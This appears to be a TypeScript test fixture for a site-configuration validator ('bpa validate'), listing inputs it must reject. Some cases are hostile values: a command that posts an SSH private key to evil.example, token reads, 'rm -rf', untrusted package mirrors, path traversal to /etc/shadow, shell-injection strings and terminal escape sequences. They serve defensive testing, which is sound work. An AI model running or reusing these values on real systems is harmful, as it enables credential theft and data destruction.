import type { Case } from './corpus.js';
import { BASE_SITE, edit } from './site-fixture.js';

/**
 * Sites written by someone bpa did not meet: the 2019 ICN fields misused, a site that tries to
 * run code on the controller, point its nodes at an unsigned mirror, read files outside itself,
 * or carry control characters. Each must fail `bpa validate` with exactly these errors, under
 * the default policy (no --allow-site-commands, no --package-mirrors).
 */
const P = 'provisioning.yaml';
const SITE = 'site.yaml';

/** A site with a Site document whose spec is `spec` (indented two spaces, lines from 5). */
const withSite = (spec: string): Record<string, string> => ({
  ...BASE_SITE,
  [SITE]: `apiVersion: bpa.akraino.org/v1alpha1\nkind: Site\nmetadata:\n  name: edge\nspec:\n${spec}`,
});

/** A Provisioning of its own (a second cluster) with `spec` (lines from 7). */
const legacy = (spec: string): Record<string, string> => ({
  ...BASE_SITE,
  'icn.yaml': `apiVersion: bpa.akraino.org/v1alpha1\nkind: Provisioning\nmetadata:\n  name: provisioning-icn\n  labels: {cluster: cluster-icn}\nspec:\n${spec}`,
});

export const TRUST_CASES: Case[] = [
  // --- 2019 ICN fields: read, and what they hold still checked
  {
    name: 'ICN 2019: master and masters in one document',
    files: legacy('  master: {mac-address: "00:c6:14:04:61:b2"}\n  masters:\n    - m1:\n'),
    expect: [{ code: 'INVALID_VALUE', file: 'icn.yaml', line: 7 }],
  },
  {
    name: 'ICN 2019: worker and workers in one document',
    files: legacy('  masters: [{m1: }]\n  worker: {cpu: 4}\n  workers: [{w1: }]\n'),
    expect: [{ code: 'INVALID_VALUE', file: 'icn.yaml', line: 8 }],
  },
  {
    name: 'ICN 2019: singular master and worker on one MAC',
    files: legacy(
      '  master:\n    mac-address: "00:c6:14:04:61:b2"\n  worker:\n    mac-address: "00:c6:14:04:61:b2"\n',
    ),
    expect: [{ code: 'DUPLICATE_MAC', file: 'icn.yaml', line: 10 }],
  },
  {
    name: 'ICN 2019: singular master with a placeholder MAC',
    files: legacy('  master:\n    mac-address: <pn4-IF2-mac>\n'),
    expect: [{ code: 'INVALID_MAC', file: 'icn.yaml', line: 8 }],
  },
  {
    name: 'ICN 2019: singular master is a string',
    files: legacy('  master: master-1\n'),
    expect: [{ code: 'WRONG_TYPE', file: 'icn.yaml', line: 7 }],
  },
  {
    name: 'ICN 2019: singular master list with a bad node name',
    files: legacy('  master:\n    - Master_1: {}\n'),
    expect: [{ code: 'INVALID_NODE_NAME', file: 'icn.yaml', line: 8 }],
  },
  {
    name: 'ICN 2019: singular master list naming a node twice',
    files: legacy('  master:\n    - m1: {}\n    - m1: {}\n'),
    expect: [{ code: 'DUPLICATE_NODE', file: 'icn.yaml', line: 9 }],
  },
  {
    name: 'ICN 2019: singular master with an unknown node field',
    files: legacy('  master: {mac: "00:c6:14:04:61:b2"}\n'),
    expect: [{ code: 'UNKNOWN_FIELD', file: 'icn.yaml', line: 7 }],
  },
  {
    name: 'ICN 2019: hostfile is a list',
    files: legacy('  masters: [{m1: }]\n  hostfile: [/root/hosts.ini]\n'),
    expect: [{ code: 'WRONG_TYPE', file: 'icn.yaml', line: 8 }],
  },
  {
    name: 'ICN 2019: kudInstallerPath is a mapping',
    files: legacy('  masters: [{m1: }]\n  kudInstallerPath: {path: /root/kud}\n'),
    expect: [{ code: 'WRONG_TYPE', file: 'icn.yaml', line: 8 }],
  },
  {
    name: 'ICN 2019: dhcpLeaseFile longer than any path',
    files: legacy(`  masters: [{m1: }]\n  dhcpLeaseFile: /${'x'.repeat(5000)}\n`),
    expect: [{ code: 'INVALID_VALUE', file: 'icn.yaml', line: 8 }],
  },

  // --- the site asks to run code on the controller
  {
    name: "Site installer.command that reads bpa's git token",
    files: withSite('  installer:\n    command: cat /var/run/secrets/bpa/git/token\n'),
    expect: [{ code: 'SITE_COMMAND_NOT_ALLOWED', file: SITE, line: 7 }],
  },
  {
    name: 'Site installer.scaleCommand',
    files: withSite('  installer:\n    scaleCommand: /bin/sh -c id {nodes}\n'),
    expect: [{ code: 'SITE_COMMAND_NOT_ALLOWED', file: SITE, line: 7 }],
  },
  {
    name: 'Site installer.addonCommand',
    files: withSite(
      '  installer:\n    addonCommand: curl -d @/var/lib/bpa/ssh/id_ed25519 evil.example\n',
    ),
    expect: [{ code: 'SITE_COMMAND_NOT_ALLOWED', file: SITE, line: 7 }],
  },
  {
    name: 'Site installer.removeCommand',
    files: withSite('  installer:\n    removeCommand: rm -rf /var/lib/bpa\n'),
    expect: [{ code: 'SITE_COMMAND_NOT_ALLOWED', file: SITE, line: 7 }],
  },
  {
    name: 'Site installer.image (runs with the SSH key mounted)',
    files: withSite('  installer:\n    mode: job\n    image: evil.example/kud:latest\n'),
    expect: [{ code: 'SITE_COMMAND_NOT_ALLOWED', file: SITE, line: 8 }],
  },
  {
    name: 'Site sets every command at once',
    files: withSite(
      '  installer:\n    command: a\n    scaleCommand: b\n    addonCommand: c\n    removeCommand: d\n',
    ),
    expect: [7, 8, 9, 10].map((line) => ({ code: 'SITE_COMMAND_NOT_ALLOWED', file: SITE, line })),
  },
  {
    // Not a setting a site has: the document fails its schema, and nothing of it is used.
    name: 'Site tries to allow itself to run commands',
    files: withSite('  allowSiteCommands: true\n  installer:\n    command: id\n'),
    expect: [{ code: 'UNKNOWN_FIELD', file: SITE, line: 6 }],
  },

  // --- package mirrors
  {
    name: 'packageMirror with [trusted=yes]',
    files: withSite('  packageMirror: deb [trusted=yes] http://198.51.100.7/debs ./\n'),
    expect: [{ code: 'PACKAGE_MIRROR_NOT_ALLOWED', file: SITE, line: 6 }],
  },
  {
    // The operator runs that repository and says where it is (--artifacts-url): no opt-in.
    name: "packageMirror {bpa: true}: bpa's own repository",
    files: withSite('  packageMirror: {bpa: true}\n'),
    expect: [],
  },
  {
    name: 'packageMirror with allow-insecure=yes',
    files: withSite('  packageMirror: deb [allow-insecure=yes] http://m.example/u jammy main\n'),
    expect: [{ code: 'PACKAGE_MIRROR_NOT_ALLOWED', file: SITE, line: 6 }],
  },
  {
    name: 'packageMirror with allow-weak=yes among other options',
    files: withSite(
      '  packageMirror: deb [arch=amd64 allow-weak=yes] http://m.example/u jammy main\n',
    ),
    expect: [{ code: 'PACKAGE_MIRROR_NOT_ALLOWED', file: SITE, line: 6 }],
  },
  {
    name: 'packageMirror with allow-downgrade-to-insecure=yes',
    files: withSite(
      '  packageMirror: deb [allow-downgrade-to-insecure=yes] https://m.example/u jammy main\n',
    ),
    expect: [{ code: 'PACKAGE_MIRROR_NOT_ALLOWED', file: SITE, line: 6 }],
  },
  {
    name: 'packageMirror outside the mirrors bpa allows',
    files: withSite('  packageMirror: deb https://evil.example/ubuntu jammy main\n'),
    expect: [{ code: 'PACKAGE_MIRROR_NOT_ALLOWED', file: SITE, line: 6 }],
  },
  {
    name: 'packageMirror with shell syntax',
    files: withSite('  packageMirror: "deb http://m.example/u jammy main; reboot"\n'),
    expect: [{ code: 'INVALID_VALUE', file: SITE, line: 6 }],
  },

  // --- paths a site names stay inside it
  {
    name: 'lease file that climbs out with ..',
    files: withSite('  leases:\n    files: ["../../etc/shadow"]\n'),
    expect: [{ code: 'INVALID_VALUE', file: SITE, line: 7 }],
  },
  {
    name: 'lease file given as an absolute path',
    files: withSite('  leases:\n    files:\n      - /var/lib/bpa/ssh/id_ed25519\n'),
    expect: [{ code: 'INVALID_VALUE', file: SITE, line: 8 }],
  },
  {
    name: 'lease file that climbs out from a subdirectory',
    files: withSite('  leases:\n    files: [leases/../../../root/.ssh/id_rsa]\n'),
    expect: [{ code: 'INVALID_VALUE', file: SITE, line: 7 }],
  },
  {
    name: 'lease file in the home directory',
    files: withSite('  leases:\n    files: ["~/dhcpd.leases"]\n'),
    expect: [{ code: 'INVALID_VALUE', file: SITE, line: 7 }],
  },
  {
    name: 'lease file path with a newline',
    files: withSite('  leases:\n    files: ["leases/a\\nb"]\n'),
    expect: [{ code: 'INVALID_VALUE', file: SITE, line: 7 }],
  },
  {
    name: 'inventory directory outside the site',
    files: withSite('  inventory:\n    directory: ../other-site/inventory\n'),
    expect: [{ code: 'INVALID_VALUE', file: SITE, line: 7 }],
  },

  // --- values that reach the installer
  {
    name: 'PodSubnet with shell syntax',
    files: edit(P, 'PodSubnet: 10.244.64.0/18', 'PodSubnet: "10.244.64.0/18 -e x=1"'),
    expect: [{ code: 'INVALID_CIDR', file: P, line: 20 }],
  },
  {
    name: 'PodSubnet with an IPv6 zone',
    files: edit(P, 'PodSubnet: 10.244.64.0/18', 'PodSubnet: "fe80::1%eth0/64"'),
    expect: [{ code: 'INVALID_CIDR', file: P, line: 20 }],
  },

  // --- control characters in names and keys
  {
    name: 'an unknown field whose name clears the screen',
    files: edit(P, '  KUDPlugins:', '  "\\e[2J\\e[HKUDPlugins":'),
    expect: [{ code: 'UNKNOWN_FIELD', file: P, line: 18 }],
  },
  {
    name: 'a node name with an escape sequence',
    files: edit(P, '    - worker-1:', '    - "worker-1\\e]0;owned\\a":'),
    expect: [{ code: 'INVALID_NODE_NAME', file: P, line: 15 }],
  },
  {
    name: 'a package name with a right-to-left override',
    files: edit('software.yaml', '    - curl', '    - "curl\\u202e"'),
    expect: [{ code: 'INVALID_PACKAGE_NAME', file: 'software.yaml', line: 13 }],
  },
  {
    name: 'a file name that forges a line of output',
    files: { ...BASE_SITE, 'x.yaml\nsite.yaml:1:1: error FAKE: ok.yaml': 'kind: [\n' },
    expect: [{ code: 'YAML_SYNTAX', file: 'x.yaml\nsite.yaml:1:1: error FAKE: ok.yaml', line: 2 }],
  },
];
